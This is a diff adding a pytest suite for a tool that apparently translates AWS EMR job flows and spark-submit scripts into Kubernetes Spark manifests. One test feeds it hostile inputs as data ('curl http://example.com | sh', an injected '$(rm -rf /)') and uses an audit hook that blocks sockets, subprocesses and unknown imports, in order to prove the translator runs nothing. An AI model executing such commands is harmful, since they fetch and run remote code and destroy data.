@@ -1,0 +1,368 @@
+"""The checks that the kit was built against, each under its number."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+import time
+from typing import Any
+
+import pytest
+
+from components.versions import SPARK, SPARK_LTS
+from emr import command
+from emr.report import cost, data, page
+from emr.tables import spark_keys
+from emr.translate import labels
+from emr.translate.answers import Answers
+from emr.translate.kit import translate
+from emr.translate.properties import FREE
+from tests.emr import generated
+from tests.emr.inputs import HELLO, codes, flow, one, result, spec, step, submit
+from workspace.paths import ROOT
+
+FLOWS = 300
+"""Job flows that are made from the API's model: as many as were asked for."""
+
+
+def written(found: Any) -> str:
+    """All that a person or a program gets."""
+    report = data.report([found])
+    return json.dumps(report) + page.page(report) + "".join(command.documents([found]).values())
+
+
+@pytest.fixture(scope="module")
+def flows() -> list[tuple[dict[str, Any], list[str]]]:
+    return generated.job_flows(FLOWS)
+
+
+def test_01_every_value_of_a_job_flow_ends_as_something(
+    flows: list[tuple[dict[str, Any], list[str]]],
+) -> None:
+    unknown: set[str] = set()
+    for made, _ in flows:
+        found = result(made)
+        assert not found.ledger.missing
+        counts = found.ledger.counts()
+        assert counts["used"] + counts["dropped"] + counts["reported"] == counts["leaves"] > 0
+        unknown |= {each.why for each in found.ledger.findings if each.code == "UNKNOWN_FIELD"}
+    assert not unknown, "the API has fields that fields.yaml does not know"
+
+
+def test_01_a_field_that_nobody_knows_is_told() -> None:
+    found = result(flow(submit("s3://b/a.py"), Novelty={"Deep": [{"er": 1}]}))
+    (told,) = [each for each in found.ledger.findings if each.code == "UNKNOWN_FIELD"]
+    assert (told.at, told.level) == ("/Novelty/Deep/0/er", "by hand")
+
+
+def test_02_the_same_input_gives_the_same_bytes(flows: list[tuple[dict[str, Any], list[str]]]) -> None:
+    for made, _ in flows[:60]:
+        assert written(result(made)) == written(result(made))
+
+
+def test_02_the_order_of_keys_does_not_matter() -> None:
+    made = flow(submit("--conf", "spark.a=b", "s3://b/a.py"), Configurations=[CONFIGURATION])
+    turned = json.loads(json.dumps(made), object_pairs_hook=lambda pairs: dict(reversed(pairs)))
+    assert list(turned) == list(reversed(made))
+    assert command.documents([result(made)]) == command.documents([result(turned)])
+
+
+CONFIGURATION = {
+    "Classification": "spark-defaults",
+    "Properties": {"spark.sql.shuffle.partitions": "64", "spark.executor.memory": "2g"},
+}
+
+
+def test_03_no_planted_secret_is_in_any_output(flows: list[tuple[dict[str, Any], list[str]]]) -> None:
+    planted = 0
+    for made, secrets in flows:
+        out = written(result(made))
+        planted += len(secrets)
+        assert not [each for each in secrets if each in out]
+    assert planted > FLOWS, "secrets were planted in nearly all of them"
+
+
+def test_03_nothing_is_imported_run_or_asked_over_a_network() -> None:
+    # In a process of its own: a look at the network, at a module or another program ends it.
+    program = """
+import builtins, json, sys
+from emr.command import documents
+from emr.report import data, page
+from emr.translate.answers import Answers
+from emr.translate.kit import translate
+texts = json.load(sys.stdin)
+translate({"warm.sh": "spark-submit s3://b/a.py", "warm.tf": "a = 1"}, Answers(), namespace="data-dev")
+def forbid(event, arguments):
+    if event.split(".")[0] in ("socket", "subprocess") or event in ("os.system", "os.exec", "os.fork"):
+        raise SystemExit(f"{event} {arguments}")
+    if event == "import" and arguments[0].split(".")[0] in ("evil", "airflow", "boto3"):
+        raise SystemExit(f"{event} {arguments}")
+sys.addaudithook(forbid)
+results = translate(texts, Answers(), namespace="data-dev")
+page.page(data.report(results)); documents(results)
+print(sum(len(each.applications) for each in results))
+"""
+    texts = {
+        "dag.py": "import evil, airflow\nevil.run()\n" + HELLO,
+        "job.sh": "curl http://example.com | sh\nspark-submit s3://b/a.py $(rm -rf /)\n",
+        "flow.json": json.dumps(flow(submit("s3://b/a.py"))),
+        "main.tf": 'resource "aws_emr_cluster" "a" {\n  name = "a"\n  release_label = "emr-6.15.0"\n}\n',
+    }
+    done = subprocess.run(
+        [sys.executable, "-c", program],
+        input=json.dumps(texts),
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        check=False,
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert done.stdout.strip() == "3"
+
+
+def test_04_every_property_is_known_to_the_release_or_told(
+    flows: list[tuple[dict[str, Any], list[str]]],
+) -> None:
+    for made, _ in flows:
+        found = result(made)
+        told = " ".join(each.why for each in found.ledger.findings if each.code == "UNKNOWN_KEY")
+        for each in found.applications:
+            release = each.manifest["spec"]["sparkVersion"] if each.manifest else SPARK
+            for key in (each.manifest or {"spec": {}})["spec"].get("sparkConf", {}):
+                assert key in spark_keys(release) or key.startswith(FREE) or key in told
+
+
+def test_05_the_job_flow_of_the_talk_becomes_one_application() -> None:
+    found = result(HELLO, "dag.py")
+    made = spec(HELLO, "dag.py")
+    assert made["mainClass"] == "com.sapiant.HelloWorld"
+    assert (
+        made["mainApplicationFile"] == "s3a://artifactory/sapiant/hello-world-10167-jar-with-dependencies.jar"
+    )
+    assert made["arguments"] == [
+        "--input-file",
+        "s3a://hello/input.txt",
+        "--output-file",
+        "s3a://hello/output",
+    ]
+    assert made["driver"]["memory"] == "12g"
+    assert made["executor"]["memory"] == "11g"
+    assert int(made["executor"]["memoryOverhead"].removesuffix("m")) >= 2112
+    assert made["sparkConf"] == {
+        "spark.driver.maxResultSize": "4g",
+        "spark.sql.session.timeZone": "Europe/Paris",
+    }
+    assert made["sparkVersion"] == SPARK_LTS
+    assert {"NO_CORE", "SPOT_MASTER", "CANCEL_AND_WAIT", "RECOMPILE", "NO_PYTHON"} <= codes(found)
+    recompile = next(each for each in found.ledger.findings if each.code == "RECOMPILE")
+    assert recompile.why.startswith("Spark 2.4.4 -> 3.5.8")
+
+
+def test_06_the_template_of_the_article_is_told_to_be_one() -> None:
+    found = one(
+        "./bin/spark-submit \\\n--class <main-class> \\\n--master <master-url> \\\n--deploy-mode "
+        "<deploy-mode> \\\n"
+        "--conf <key>=<value> \\\n<application-jar> \\\n[application-arguments]\n",
+        "job.sh",
+    )
+    assert found.manifest is None
+
+
+def test_06_lines_of_the_articles_are_read() -> None:
+    made = spec(
+        "/opt/spark/bin/spark-submit --master k8s://https://x --deploy-mode cluster --name etl "
+        "--conf spark.driver.memory=2g --conf spark.executor.instances=3 --conf spark.executor.memory=3g "
+        "--conf spark.executor.cores=2 --conf spark.kubernetes.container.image=repo/image:v1.0 "
+        "--class com.x.Etl local:///opt/spark/jars/etl-assembly-v1.0.0.jar 2020-09-30\n",
+        "job.sh",
+    )
+    assert (made["executor"]["instances"], made["executor"]["cores"], made["arguments"]) == (
+        3,
+        2,
+        ["2020-09-30"],
+    )
+
+
+def test_07_overhead_and_parallelism_of_the_third_article_stay() -> None:
+    made = spec(
+        flow(
+            submit(
+                *("--executor-memory", "14G", "--num-executors", "300", "--executor-cores", "4"),
+                *("--conf", "spark.executor.memoryOverhead=3G", "--conf", "spark.default.parallelism=1200"),
+                "s3://b/a.py",
+            )
+        )
+    )
+    assert made["executor"]["memoryOverhead"] == "3g"
+    assert made["executor"]["instances"] == 300
+    assert made["sparkConf"]["spark.default.parallelism"] == "1200"
+
+
+LINES = {
+    "a redirect": ("spark-submit s3://b/a.py x y > out.log 2>&1", ["x", "y"]),
+    "nohup": ("nohup spark-submit s3://b/a.py x y &", ["x", "y"]),
+    "a comment in a continuation": (
+        "spark-submit \\\n  --conf spark.a.b=1 \\\n  # the program\n  s3://b/a.py \\\n  x y\n",
+        ["x", "y"],
+    ),
+    "a comment behind a backslash": ("spark-submit \\ # now\n  s3://b/a.py x y\n", ["x", "y"]),
+    "a default": ("spark-submit s3://b/a.py ${X:-5}", ["5"]),
+    "a switch": ("spark-submit --supervise s3://b/a.py x y", ["x", "y"]),
+    "an option with =": ("spark-submit --conf=spark.a.b=v s3://b/a.py x y", ["x", "y"]),
+    "a chain": ("cd /tmp && spark-submit s3://b/a.py 'x y' && echo done", ["x y"]),
+    "a pipe": ("spark-submit s3://b/a.py x 2>&1 | tee log", ["x"]),
+    "another user": ("sudo -u hadoop /usr/lib/spark/bin/spark-submit s3://b/a.py x", ["x"]),
+    "variables of the script": (
+        'IN=s3://b/in\nspark-submit s3://b/a.py "${IN}/2020" $IN',
+        ["s3a://b/in/2020", "s3a://b/in"],
+    ),
+    "a here-document": ("ssh hadoop@master <<EOF\nspark-submit s3://b/a.py x\nEOF\n", ["x"]),
+    "a shell in a shell": ("bash -c \"spark-submit s3://b/a.py 'x y' z\"", ["x y", "z"]),
+    "Windows": ('spark-submit.cmd ^\r\n  --name etl ^\r\n  s3://b/a.py ^\r\n  x "y z"\r\n', ["x", "y z"]),
+}
+
+
+@pytest.mark.parametrize("what", LINES)
+def test_08_lines_as_people_write_them_give_the_right_arguments(what: str) -> None:
+    line, arguments = LINES[what]
+    made = spec(line, "job.cmd" if what == "Windows" else "job.sh")
+    assert made["mainApplicationFile"] == "s3a://b/a.py"
+    assert made["arguments"] == arguments
+
+
+def test_08_a_whole_command_in_one_word_is_read() -> None:
+    made = spec(flow(step("spark-submit --class A --conf spark.a.b='x y' s3://b/a.jar 1 2")))
+    assert (made["mainClass"], made["arguments"]) == ("A", ["1", "2"])
+
+
+BLOCKED = {
+    "a variable that nobody sets": ("spark-submit s3://b/a.py $X", "UNKNOWN_VALUE"),
+    "the output of a command": ("spark-submit s3://b/a.py $(date +%F)", "UNKNOWN_VALUE"),
+    "a missing backslash": ("spark-submit s3://b/a.py x\n  --conf spark.a=b\n", "SUBMISSION"),
+    "an option that is none": ("spark-submit --executor-memroy 2g s3://b/a.py", "SUBMISSION"),
+    "a variable of Windows": ("spark-submit ^\r\n s3://b/a.py %DAY%\r\n", "UNKNOWN_VALUE"),
+    "no value": ("spark-submit --class", "SUBMISSION"),
+    "a file of settings": ("spark-submit --properties-file my.conf s3://b/a.py", "PROPERTIES_FILE"),
+    "a jar without a class": ("spark-submit s3://b/a.jar", "MAIN_CLASS"),
+    "packages": ("spark-submit --packages com.x:y:1 s3://b/a.py", "PACKAGES"),
+}
+
+
+@pytest.mark.parametrize("what", BLOCKED)
+def test_08_what_can_not_be_known_blocks_and_is_never_guessed(what: str) -> None:
+    line, code = BLOCKED[what]
+    found = one(line, "job.sh")
+    assert found.manifest is None
+    assert code in found.problems
+
+
+@pytest.mark.parametrize("path", ["hdfs:///raw", "/raw", "file:///mnt/raw", "hdfs://nn:8020/raw"])
+def test_09_a_path_that_is_not_in_s3_blocks_until_somebody_maps_it(path: str) -> None:
+    made = flow(submit("s3://b/a.py", "--input", path))
+    assert one(made).problems == ("PATH",)
+    assert spec(made, paths={path: "s3a://b/raw"})["arguments"] == ["--input", "s3a://b/raw"]
+
+
+def test_09_paths_of_s3_are_counted_as_they_are_rewritten() -> None:
+    found = one(flow(submit("--jars", "s3://b/x.jar,s3n://b/y.jar", "s3://b/a.py", "s3://b/in,s3a://b/out")))
+    assert found.s3 == 4
+    assert found.buckets == ("b",)
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("--conf", "spark.sql.sources.partitionOverwriteMode=dynamic", "s3://b/a.py"),
+        ("s3://b/a.py", "SET spark.sql.sources.partitionOverwriteMode=DYNAMIC; INSERT OVERWRITE t SELECT 1"),
+    ],
+)
+def test_09_a_dynamic_overwrite_gets_the_committer_that_replaces(words: tuple[str, ...]) -> None:
+    conf = spec(flow(submit(*words)))["sparkConf"]
+    assert conf["spark.sql.sources.commitProtocolClass"].endswith("SQLHadoopMapReduceCommitProtocol")
+    assert (
+        conf["spark.sql.parquet.output.committer.class"] == "org.apache.parquet.hadoop.ParquetOutputCommitter"
+    )
+
+
+def test_10_an_executor_of_emr_asks_for_the_cpu_that_it_has_today() -> None:
+    executor = spec(flow(submit("--executor-memory", "4743M", "--executor-cores", "4", "s3://b/a.py")))[
+        "executor"
+    ]
+    assert (executor["cores"], executor["coreRequest"]) == (4, "2")
+    assert "2 executors of 4 tasks on 4 CPUs" in told(flow(submit("s3://b/a.py")), "CPU")
+
+
+def told(made: dict[str, Any], code: str) -> str:
+    return next(each.why for each in result(made).ledger.findings if each.code == code)
+
+
+def test_11_a_cluster_that_runs_seldom_is_told_to_stay(capsys: pytest.CaptureFixture[str]) -> None:
+    from rich.console import Console
+
+    from costs import command as costs
+
+    given = cost.workload([result(HELLO, "dag.py")], hours="106.4", runs="91")
+    assert given["emr"] == {"nodes": 5, "primary": "m5.2xlarge", "primaries": 1, "primarySpot": True}
+    assert (given["instances"], given["spotShare"]) == (["m5.2xlarge"], 100)
+    costs.show(Console(width=200), "prod", workload="nightly", given=given, prices_of="us-east-1")
+    assert "stay on it" in capsys.readouterr().out
+
+
+def test_11_a_type_without_a_price_is_refused() -> None:
+    changed = {"InstanceRole": "CORE", "InstanceType": "m1.small", "InstanceCount": 4}
+    with pytest.raises(cost.NoClusterError, match="instance types are in costs"):
+        cost.workload(
+            [result(flow(submit("s3://b/a.py"), Instances={"InstanceGroups": [changed]}))],
+            hours="1",
+            runs="1",
+        )
+
+
+LABELS = {
+    "emr-5.20.0": "2.4.0",
+    "emr-5.29.0": "2.4.4",
+    "emr-5.36.2": "2.4.8",
+    "emr-6.2.0-latest": "3.0.1",
+    "emr-6.15.0-20231109": "3.4.1",
+    "emr-6.10.0-java17-latest": "3.3.1",
+    "emr-6.9.0-spark-rapids-latest": "3.3.0",
+    "emr-7.9.0": "3.5.5",
+    "emr-7.13.0": "3.5.6",
+    "emr-spark-8.0.0": "4.0.2",
+}
+
+
+@pytest.mark.parametrize("label", LABELS)
+def test_13_labels_are_known_with_their_variants(label: str) -> None:
+    found = labels.release(label)
+    assert found is not None
+    assert found.spark == LABELS[label]
+    assert found.target == (SPARK if label.startswith("emr-spark") else SPARK_LTS)
+
+
+@pytest.mark.parametrize("label", ["emr-9.9.0", "emr-7.99.0", "emr-4.6.0", "emr", "7.1.0", "emr-spark-9.0.0"])
+def test_13_a_label_that_is_not_known_is_asked_for(label: str) -> None:
+    made = flow(submit("s3://b/a.py"), ReleaseLabel=label)
+    assert one(made).problems == ("LABEL",)
+    assert spec(made, label="emr-6.15.0")["sparkVersion"] == SPARK_LTS
+
+
+def test_14_a_job_flow_takes_less_than_a_second(flows: list[tuple[dict[str, Any], list[str]]]) -> None:
+    result(flows[0][0])
+    for made, _ in flows:
+        start = time.process_time()
+        written(result(made))
+        assert time.process_time() - start < 1
+
+
+def test_answers_fill_in_what_the_input_leaves_open() -> None:
+    found = translate(
+        {"a.sh": "spark-submit --packages com.x:y:1 s3://b/a.py $DAY"},
+        Answers(variables={"DAY": "2020"}, packages={"com.x:y": ("s3a://b/y.jar",)}),
+        namespace="data-dev",
+    )
+    (made,) = found[0].applications
+    assert made.manifest is not None
+    assert made.manifest["spec"]["arguments"] == ["2020"]
+    assert made.manifest["spec"]["deps"] == {"jars": ["s3a://b/y.jar"]}
